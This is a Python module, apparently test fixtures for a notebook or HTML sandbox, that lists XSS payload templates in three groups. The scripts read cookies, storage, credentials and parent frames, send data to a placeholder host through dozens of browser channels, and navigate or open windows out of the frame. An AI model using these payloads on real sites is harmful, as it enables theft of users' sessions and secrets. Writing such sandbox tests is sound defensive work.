"""Scripts that try to read what is the victim's, and to carry it away: all that a sandbox must not let through."""
# ruff: noqa: E501  (what is hostile stays on one line)

from collections.abc import Mapping
from typing import Final

_READING: Final = {
    "cookie": "<script>%JS%;if(/nbisecret/.test(document.cookie))%SAW%</script>",
    "local storage": "<script>%JS%;if(/nbisecret/.test(localStorage.token))%SAW%</script>",
    "session storage": "<script>%JS%;if(/nbisecret/.test(sessionStorage.token))%SAW%</script>",
    "cookie store": "<script>%JS%;cookieStore.getAll().then(c=>{if(/nbisecret/.test(JSON.stringify(c)))%SAW%})</script>",
    "indexed databases": "<script>%JS%;indexedDB.databases().then(()=>%SAW%)</script>",
    "cache": "<script>%JS%;caches.open('x').then(()=>%SAW%)</script>",
    "parent": "<script>%JS%;if(parent!==window&&parent.secret)%SAW%</script>",
    "top": "<script>%JS%;if(top!==window&&top.secret)%SAW%</script>",
    "parent's document": "<script>%JS%;if(parent!==window&&parent.document.body)%SAW%</script>",
    "frame element": "<script>%JS%;if(window.frameElement)%SAW%</script>",
    "siblings": "<script>%JS%;for(let i=0;i<parent.length;i++)try{if(parent[i]!==window&&parent[i].document)%SAW%}catch(e){}</script>",
    "opener": "<script>%JS%;if(window.opener&&opener.document)%SAW%</script>",
    "own origin": "<script>%JS%;if(self.origin!=='null')%SAW%</script>",
    "the api by fetch": "<script>%JS%;fetch('/graphql?query={viewer{user{login}}}',{credentials:'include'}).then(r=>r.text()).then(t=>%SAW%)</script>",
    "the api by its whole address": "<script>%JS%;fetch(location.origin+'/graphql',{method:'POST'}).then(()=>%SAW%)</script>",
    "the api by request": "<script>%JS%;var x=new XMLHttpRequest;x.onload=()=>%SAW%;x.open('GET','/graphql');x.send()</script>",
    "a document by request": "<script>%JS%;var x=new XMLHttpRequest;x.onload=()=>%SAW%;x.open('GET',location.href);x.send()</script>",
    "referrer": "<script>%JS%;if(/nbi_/.test(document.referrer))%SAW%</script>",
    "messages of the parent": "<script>%JS%;onmessage=e=>{if(/nbisecret/.test(JSON.stringify(e.data)))%SAW%};parent.postMessage('give','*')</script>",
    "broadcast": "<script>%JS%;new BroadcastChannel('x').onmessage=e=>%SAW%</script>",
    "clipboard": "<script>%JS%;navigator.clipboard.readText().then(()=>%SAW%)</script>",
    "credentials": "<script>%JS%;navigator.credentials.get({password:true}).then(c=>{if(c)%SAW%})</script>",
    "place": "<script>%JS%;navigator.geolocation.getCurrentPosition(()=>%SAW%)</script>",
    "camera": "<script>%JS%;navigator.mediaDevices.getUserMedia({video:true,audio:true}).then(()=>%SAW%)</script>",
    "storage access": "<script>%JS%;document.requestStorageAccess().then(()=>{if(/nbisecret/.test(document.cookie))%SAW%})</script>",
    "domain": "<script>%JS%;document.domain='127.0.0.1';%SAW%</script>",
}
"""In a page that is served without a policy these read; what cannot be read there either is left out of no claim."""

_SENDING: Final = {
    "fetch": "<script>%JS%;fetch('%URL%').catch(()=>0)</script>",
    "fetch without an answer": "<script>%JS%;fetch('%URL%',{mode:'no-cors',method:'POST',body:'x',keepalive:true}).catch(()=>0)</script>",
    "fetch later": "<script>%JS%;self.fetchLater&&fetchLater('%URL%',{activateAfter:0})</script>",
    "request": "<script>%JS%;var x=new XMLHttpRequest;x.open('POST','%URL%');x.send('x')</script>",
    "beacon": "<script>%JS%;navigator.sendBeacon('%URL%','x')</script>",
    "image": "<script>%JS%;new Image().src='%URL%'</script>",
    "web socket": "<script>%JS%;new WebSocket('ws://%HOST%/p%ID%x')</script>",
    "web socket stream": "<script>%JS%;self.WebSocketStream&&new WebSocketStream('ws://%HOST%/p%ID%x')</script>",
    "events": "<script>%JS%;new EventSource('%URL%')</script>",
    "web transport": "<script>%JS%;self.WebTransport&&new WebTransport('https://%HOST%/p%ID%x').ready.catch(()=>0)</script>",
    "script": "<script>%JS%;document.head.append(Object.assign(document.createElement('script'),{src:'%URL%'}))</script>",
    "import": "<script>%JS%;import('%URL%').catch(()=>0)</script>",
    "worker": "<script>%JS%;new Worker('%URL%')</script>",
    "worker of a blob": "<script>%JS%;new Worker(URL.createObjectURL(new Blob([\"fetch('%URL%').catch(()=>0);importScripts('%URL%')\"])))</script>",
    "shared worker of a blob": "<script>%JS%;new SharedWorker(URL.createObjectURL(new Blob([\"importScripts('%URL%')\"])))</script>",
    "service worker": "<script>%JS%;navigator.serviceWorker.register('%URL%').catch(()=>0)</script>",
    "worklet": "<script>%JS%;CSS.paintWorklet.addModule('%URL%').catch(()=>0)</script>",
    "audio worklet": "<script>%JS%;new AudioContext().audioWorklet.addModule('%URL%').catch(()=>0)</script>",
    "frame": "<script>%JS%;document.body.append(Object.assign(document.createElement('iframe'),{src:'%URL%'}))</script>",
    "frame of a blob": (
        "<script>%JS%;document.body.append(Object.assign(document.createElement('iframe'),"
        "{src:URL.createObjectURL(new Blob(['<img src=%URL%>'],{type:'text/html'}))}))</script>"
    ),
    "frame of a document": "<script>%JS%;document.body.append(Object.assign(document.createElement('iframe'),{srcdoc:'<img src=%URL%>'}))</script>",
    "frame without a policy": (
        "<script>%JS%;var f=document.createElement('iframe');document.body.append(f);try{f.contentWindow.fetch('%URL%').catch(()=>0)}catch(e){}</script>"
    ),
    "object": "<script>%JS%;document.body.append(Object.assign(document.createElement('object'),{data:'%URL%'}))</script>",
    "style sheet": "<script>%JS%;document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'%URL%'}))</script>",
    "prefetch": "<script>%JS%;document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'%URL%'}))</script>",
    "preconnect": "<script>%JS%;document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'http://%HOST%'}))</script>",
    "preload": "<script>%JS%;document.head.append(Object.assign(document.createElement('link'),{rel:'preload',as:'script',href:'%URL%'}))</script>",
    "font": "<script>%JS%;new FontFace('x','url(%URL%)').load().catch(()=>0)</script>",
    "style": "<script>%JS%;document.body.style.background='url(%URL%)'</script>",
    "sheet of a constructor": "<script>%JS%;var s=new CSSStyleSheet;s.replaceSync('*{background:url(%URL%)}');document.adoptedStyleSheets=[s]</script>",
    "form": "<form id=h%ID% action='%URL%' method=post></form><script>%JS%;h%ID%.submit()</script>",
    "form into a frame": "<iframe name=n%ID%></iframe><form id=i%ID% action='%URL%' target=n%ID%></form><script>%JS%;i%ID%.submit()</script>",
    "video": "<script>%JS%;new Audio('%URL%').play().catch(()=>0);Object.assign(document.createElement('video'),{src:'%URL%'}).load()</script>",
    "speculation": (
        "<script>%JS%;document.head.append(Object.assign(document.createElement('script'),{type:'speculationrules',"
        "textContent:JSON.stringify({prefetch:[{urls:['%URL%']}],prerender:[{urls:['%URL%']}]})}))</script>"
    ),
    "svg use": "<script>%JS%;document.body.insertAdjacentHTML('beforeend','<svg><use href=\"%URL%#x\"/><image href=\"%URL%\"/></svg>')</script>",
    "cursor": "<script>%JS%;document.body.style.cursor='url(%URL%),auto'</script>",
    "xslt": "<script>%JS%;var d=document.implementation.createDocument(null,'x');d.load&&d.load('%URL%')</script>",
    "report": "<script>%JS%;document.head.insertAdjacentHTML('beforeend','<meta http-equiv=content-security-policy content=\"report-uri %URL%\">')</script>",
    "payment": "<script>%JS%;try{new PaymentRequest([{supportedMethods:'%URL%'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).canMakePayment()}catch(e){}</script>",
}

_LEAVING: Final = {
    "location": "<script>%JS%;location='%URL%'</script>",
    "location replaced": "<script>%JS%;location.replace('%URL%')</script>",
    "link clicked": "<a id=j%ID% href='%URL%'>x</a><script>%JS%;j%ID%.click()</script>",
    "refresh by script": "<script>%JS%;document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=\"0;url=%URL%\">')</script>",
    "navigation interface": "<script>%JS%;navigation.navigate('%URL%')</script>",
    "top": "<script>%JS%;try{top.location='%URL%'}catch(e){}</script>",
    "top by a link": "<a id=k%ID% target=_top href='%URL%'>x</a><script>%JS%;k%ID%.click()</script>",
    "window opened": "<script>%JS%;open('%URL%')</script>",
    "window opened by a link": "<a id=l%ID% target=_blank href='%URL%'>x</a><script>%JS%;l%ID%.click()</script>",
    "window opened with noopener": "<script>%JS%;open('%URL%','_blank','noopener')</script>",
    "window opened by a form": "<form id=m%ID% target=_blank action='%URL%'></form><script>%JS%;m%ID%.submit()</script>",
    "download": "<a id=o%ID% download=x href='data:text/plain,x'>x</a><script>%JS%;o%ID%.click()</script>",
    "dialogs": "<script>%JS%;alert(1);confirm(1);prompt(1);print()</script>",
    "fullscreen": "<script>%JS%;document.body.requestFullscreen().catch(()=>0);document.body.requestPointerLock()</script>",
}

FAMILIES: Final[Mapping[str, Mapping[str, str]]] = {"reading": _READING, "sending": _SENDING, "leaving": _LEAVING}
